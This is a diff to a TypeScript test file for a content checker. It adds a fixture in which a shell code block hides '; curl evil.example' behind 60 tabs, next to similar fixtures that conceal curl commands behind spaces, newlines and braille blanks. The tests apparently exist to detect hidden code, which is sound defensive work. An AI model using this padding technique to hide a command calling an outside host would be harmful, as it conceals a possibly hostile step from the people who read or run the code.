@@ -119,6 +119,7 @@ const findings: [string, TextCheck, string, RegExp][] = [
   ['a Chinese phrase', stuffing, `我们测试了它。${'便宜的服务器'.repeat(30)}`, /^the same words stand there/],
   ['code off the screen', padding, `~~~sh\nls${' '.repeat(3000)}; curl evil.example\n~~~`, /^3000 blanks in code/],
   ['code below the screen', padding, `\`\`\`\nls${'\n'.repeat(100)}curl\n\`\`\``, /^100 blanks in code/],
+  ['code beside tabs', padding, `~~~sh\nls${'\t'.repeat(60)}; curl evil.example\n~~~`, /^480 blanks in code/],
   ['code beside braille blanks', padding, `\`ls${'\u2800'.repeat(90)}; curl\``, /^90 blanks in code/],
   ['a report', (sent) => report({ ...sent, purpose: 'report' }), 'The table is wrong.', /^a report of a problem/],
   ['capitals', shouting, 'THIS IS THE BEST OFFER EVER, BUY IT', /capitals/],
